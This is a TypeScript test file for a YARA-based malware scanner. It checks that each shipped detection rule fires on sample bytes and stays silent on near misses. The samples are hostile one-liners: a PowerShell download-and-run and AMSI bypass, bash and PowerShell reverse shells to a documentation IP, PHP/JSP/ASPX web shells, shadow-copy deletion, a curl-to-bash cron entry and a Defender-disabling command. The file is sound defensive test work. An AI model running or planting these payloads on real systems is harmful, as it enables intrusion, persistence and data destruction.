import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { makeYaraShelf } from "./yara.ts";
import { readYaraFiles } from "./yara-files.ts";

const shelf = makeYaraShelf();
afterAll(() => shelf.close());

const CONTENT = join(import.meta.dirname, "../../../../content/yara");
const bytes = (text: string): Uint8Array => Buffer.from(text, "latin1");
const program = (text: string): Uint8Array => bytes(`MZ\0\0${text}`);
const elf = (text: string): Uint8Array => bytes(`\x7fELF${text}`);
const ole = (text: string): Uint8Array => bytes(`\xd0\xcf\x11\xe0${text}`);

/** Rule, bytes that must match, bytes that come near and must not. */
const ROWS: readonly (readonly [string, Uint8Array, Uint8Array])[] = [
  [
    "powershell_download_and_run",
    bytes("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
    bytes("(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a') | Out-File a.txt"),
  ],
  [
    "powershell_amsi_bypass",
    bytes(
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed').SetValue($null,$true)",
    ),
    bytes("How amsiInitFailed of System.Management.Automation.AmsiUtils is watched"),
  ],
  [
    "powershell_reflective_load",
    bytes("$a=[Reflection.Assembly]::Load([Convert]::FromBase64String($x)); $a.EntryPoint.Invoke($null,$null)"),
    bytes("[Reflection.Assembly]::LoadWithPartialName('x'); [Convert]::FromBase64String($x)"),
  ],
  [
    "powershell_tcp_shell",
    bytes("$c=New-Object Net.Sockets.TCPClient('192.0.2.1',1);$s=$c.GetStream();$r=(iex $d 2>&1|Out-String)"),
    bytes("$c=New-Object Net.Sockets.TCPClient('192.0.2.1',25);$s=$c.GetStream(); $r | Out-String"),
  ],
  [
    "powershell_shellcode_runner",
    bytes("[Byte[]]$b=0x90; VirtualAlloc; GetDelegateForFunctionPointer"),
    bytes("[Byte[]]$b = Get-Content a; VirtualAlloc"),
  ],
  [
    "shell_reverse_tcp",
    bytes("bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
    bytes("echo > /dev/tcp/127.0.0.1/22 && echo open"),
  ],
  [
    "python_socket_shell",
    bytes("s=socket.socket();os.dup2(s.fileno(),0);socket.socket(2);subprocess.call(['/bin/sh','-i'])"),
    bytes("s=socket.socket(2,1);subprocess.call(['/bin/sh','-c','ls'])"),
  ],
  [
    "php_command_shell",
    bytes("<?php @eval($_POST['x']);"),
    bytes("<?php echo htmlspecialchars($_POST['x']); eval($code);"),
  ],
  [
    "jsp_command_shell",
    bytes('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    bytes('<% String c = request.getParameter("c"); %>'),
  ],
  [
    "aspx_command_shell",
    bytes('<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
    bytes('<%@ Page Language="C#"%><%= Server.HtmlEncode(Request["x"]) %>'),
  ],
  ["recovery_destruction", bytes("vssadmin.exe delete shadows /all /quiet"), bytes("vssadmin list shadows")],
  [
    "jscript_download_and_run",
    bytes("new ActiveXObject('MSXML2.XMLHTTP');new ActiveXObject('ADODB.Stream').SaveToFile(f);s.Run(f)"),
    bytes("new ActiveXObject('MSXML2.XMLHTTP'); s.Run('notepad')"),
  ],
  [
    "cron_or_profile_fetch_persistence",
    bytes("*/5 * * * * root curl -fsSL http://192.0.2.1/a.sh | bash\n"),
    bytes("*/5 * * * * root curl -fsS http://monitor.example/ping > /dev/null\n"),
  ],
  [
    "defender_off_by_script",
    bytes("Set-MpPreference -DisableRealtimeMonitoring $true"),
    bytes("Set-MpPreference -DisableRealtimeMonitoring $false"),
  ],
  ["mimikatz_strings", program("sekurlsa::logonpasswords gentilkiwi"), bytes("sekurlsa::logonpasswords gentilkiwi")],
  ["cobalt_strike_beacon_strings", program("%s as %s\\%s: %d beacon.dll ReflectiveLoader"), program("beacon.dll")],
  ["meterpreter_strings", program("metsrv.dll ReflectiveLoader"), program("stdapi_")],
  ["reflective_loader_export", program("_ReflectiveLoader@4"), program("ReflectiveLoader")],
  [
    "ransom_note_with_programs_work",
    program("All your files have been encrypted. Send bitcoin to get the decryption key"),
    bytes("All your files have been encrypted. Send bitcoin to get the decryption key"),
  ],
  ["coin_miner_linux", elf("stratum+tcp://p:1 --donate-level randomx"), elf("stratum+tcp:// is a protocol")],
  [
    "ld_preload_rootkit",
    elf("/etc/ld.so.preload readdir64 RTLD_NEXT dlsym hide_file"),
    elf("/etc/ld.so.preload readdir64 RTLD_NEXT dlsym"),
  ],
  ["botnet_telnet_passwords", elf("/bin/busybox xc3511 vizxv"), elf("/bin/busybox /dev/watchdog")],
  [
    "anti_analysis_names",
    program("VBoxService.exe vmtoolsd.exe wireshark.exe procmon.exe"),
    program("wireshark.exe procmon.exe"),
  ],
  [
    "browser_password_theft",
    program("\\Google\\Chrome\\User Data \\Mozilla\\Firefox\\Profiles Login Data logins.json CryptUnprotectData"),
    program("\\Google\\Chrome\\User Data Login Data"),
  ],
  [
    "rtf_equation_object",
    bytes("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105000002000000 4571756174696f6e2e33}}}"),
    bytes("{\\rtf1 An equation}"),
  ],
  [
    "html_builds_program",
    bytes('<script>var a="TVqQAAMAAAAEAAAA";URL.createObjectURL(new Blob([a]))</script>'),
    bytes('<script>var a="iVBORw0KGgo";URL.createObjectURL(new Blob([a]))</script>'),
  ],
  [
    "html_builds_archive",
    bytes(`<script>var a="UEsDBA${"A".repeat(500)}";new Blob([a]);l.download = "x.zip";l.click()</script>`),
    bytes('<script>new Blob([csv]);l.download = "x.csv";l.click()</script>'),
  ],
  [
    "shortcut_with_script",
    bytes("L\0\0\0\x01\x14\x02\0 powershell iwr http://192.0.2.1/a"),
    bytes("L\0\0\0\x01\x14\x02\0 C:\\Program Files\\app.exe http://example.org"),
  ],
  [
    "pdf_starts_program",
    bytes("%PDF-1.4 << /S /Launch /Win << /F (cmd.exe) >> >>"),
    bytes("%PDF-1.4 see cmd.exe /Launch"),
  ],
  [
    "office_macro_project_with_shell",
    ole("_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0 Attribut WScript.Shell powershell"),
    ole("_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0 Attribut WScript.Shell"),
  ],
  [
    "hta_runs_shell",
    bytes('<hta:application/><script>new ActiveXObject("WScript.Shell").Run("powershell -c x")</script>'),
    bytes("<hta:application/><script>document.title = 'inventory'</script>"),
  ],
];

describe("shipped rules", () => {
  const { sources, unread } = readYaraFiles([CONTENT]);
  const rules = shelf.compile(sources);

  it("all load, and each has a row here", () => {
    expect(unread).toEqual([]);
    expect(rules.rejected).toEqual([]);
    const names = sources.flatMap(({ text }) => [...text.matchAll(/^rule (\w+)/gm)].map(([, name]) => name));
    expect(ROWS.map(([name]) => name).toSorted()).toEqual(names.toSorted());
  });

  it.each(ROWS)("%s", (name, must, near) => {
    const hit = rules.scan(must).hits.find(({ rule }) => rule === name);
    expect(hit?.strings.length).toBeGreaterThan(0);
    expect(hit?.title).toBeTypeOf("string");
    expect(hit?.score).toBeGreaterThan(0);
    expect(rules.scan(near).hits.map(({ rule }) => rule)).not.toContain(name);
  });
});

describe("makeYaraShelf", () => {
  const good = { name: "good.yar", text: 'rule g { strings: $a = "abc" condition: $a }' };

  it("names a bad file with its reason and loads the rest", () => {
    const rules = shelf.compile([good, { name: "bad.yar", text: "rule b { condition: nonsense }" }]);
    expect(rules.loaded).toEqual(["good.yar"]);
    expect(rules.rejected[0]?.rule).toBe("b");
    expect(rules.rejected.map(({ name }) => name)).toEqual(["bad.yar"]);
    expect(rules.rejected[0]?.reason).toMatch(/nonsense/);
    expect(rules.scan(bytes("xxabc")).hits).toEqual([
      { rule: "g", source: "good.yar", tags: [], strings: [{ id: "$a", offset: 2, length: 3 }] },
    ]);
  });

  it("leaves out the bad rule of a file, and what rests on it, and loads the others", () => {
    const text = [
      "rule first { condition: nonsense }",
      'rule second { strings: $a = "abc" condition: $a }',
      "private rule third {",
      "  condition: foo(3)",
      "}",
      "rule fourth { condition: first }",
    ].join("\n");
    const rules = shelf.compile([{ name: "mixed.yar", text }]);
    expect(rules.loaded).toEqual(["mixed.yar"]);
    expect(rules.rejected.map(({ rule }) => rule)).toEqual(["first", "third", "fourth"]);
    expect(rules.rejected[1]?.reason).toMatch(/line:4:/);
    expect(rules.scan(bytes("abc")).hits.map(({ rule }) => rule)).toEqual(["second"]);
  });

  it.each([
    ["an import that does not exist", 'import "nowhere"\nrule a { condition: true }'],
    ["no rule at all", "this is prose"],
  ])("refuses a whole file for %s", (_name, text) => {
    const rules = shelf.compile([{ name: "whole.yar", text }]);
    expect(rules.rejected.length).toBeGreaterThan(0);
    expect(rules.scan(bytes("abc")).hits).toEqual([]);
  });

  it("lets two files use one rule name, and compiles the same sources once", () => {
    const twice = [good, { ...good, name: "other.yar" }];
    const rules = shelf.compile(twice);
    expect(rules.rejected).toEqual([]);
    expect(shelf.compile(twice)).toBe(rules);
    expect(rules.scan(bytes("abc")).hits.map(({ source }) => source)).toEqual(["good.yar", "other.yar"]);
  });

  it("bounds matches, and refuses a closed set", () => {
    const own = makeYaraShelf();
    const rules = own.compile([good]);
    expect(rules.scan(bytes("abc".repeat(5_000))).hits[0]?.strings).toHaveLength(20);
    own.close();
    expect(() => rules.scan(bytes("abc"))).toThrow(/closed/);
  });
});

describe("readYaraFiles", () => {
  it("reads below folders, and names what is missing", () => {
    const folder = mkdtempSync(join(tmpdir(), "cordon-yara-"));
    writeFileSync(join(folder, "a.yar"), "rule a { condition: false }");
    writeFileSync(join(folder, "notes.txt"), "no rule");
    const read = readYaraFiles([folder, join(folder, "gone")]);
    rmSync(folder, { recursive: true });
    expect(read.sources.map(({ name }) => name)).toEqual([join(folder, "a.yar")]);
    expect(read.unread.map(({ name }) => name)).toEqual([join(folder, "gone")]);
  });
});
